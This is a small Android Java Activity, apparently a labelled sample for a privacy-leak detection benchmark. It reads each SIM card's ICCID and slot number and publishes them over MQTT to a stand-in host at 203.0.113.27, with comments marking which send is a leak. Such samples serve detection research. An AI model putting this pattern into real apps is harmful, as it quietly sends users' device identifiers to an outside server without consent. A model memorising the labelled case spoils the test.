package ways;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SubscriptionInfo;
import android.telephony.SubscriptionManager;
import java.util.ArrayList;
import java.util.List;
import org.eclipse.paho.client.mqttv3.IMqttClient;
import org.eclipse.paho.client.mqttv3.MqttAsyncClient;

/** Cards of the phone, by a queue of messages. */
public class Sims extends Activity {
    static class Card {
        private final String icc;
        private final int slot;

        Card(SubscriptionInfo info) {
            icc = info.getIccId();
            slot = info.getSimSlotIndex();
        }

        String icc() {
            return icc;
        }

        int slot() {
            return slot;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<Card> cards = new ArrayList<>();
        for (SubscriptionInfo info : SubscriptionManager.from(this).getActiveSubscriptionInfoList()) cards.add(new Card(info));
        try {
            MqttAsyncClient client = new MqttAsyncClient("tcp://203.0.113.27:1883", "c");
            client.connect().waitForCompletion();
            for (Card card : cards) {
                client.publish("slot", String.valueOf(card.slot()).getBytes(), 0, false); // no leak
                client.publish("icc", card.icc().getBytes(), 0, false); // leak
            }
        } catch (Exception e) {
            finish();
        }
    }
}
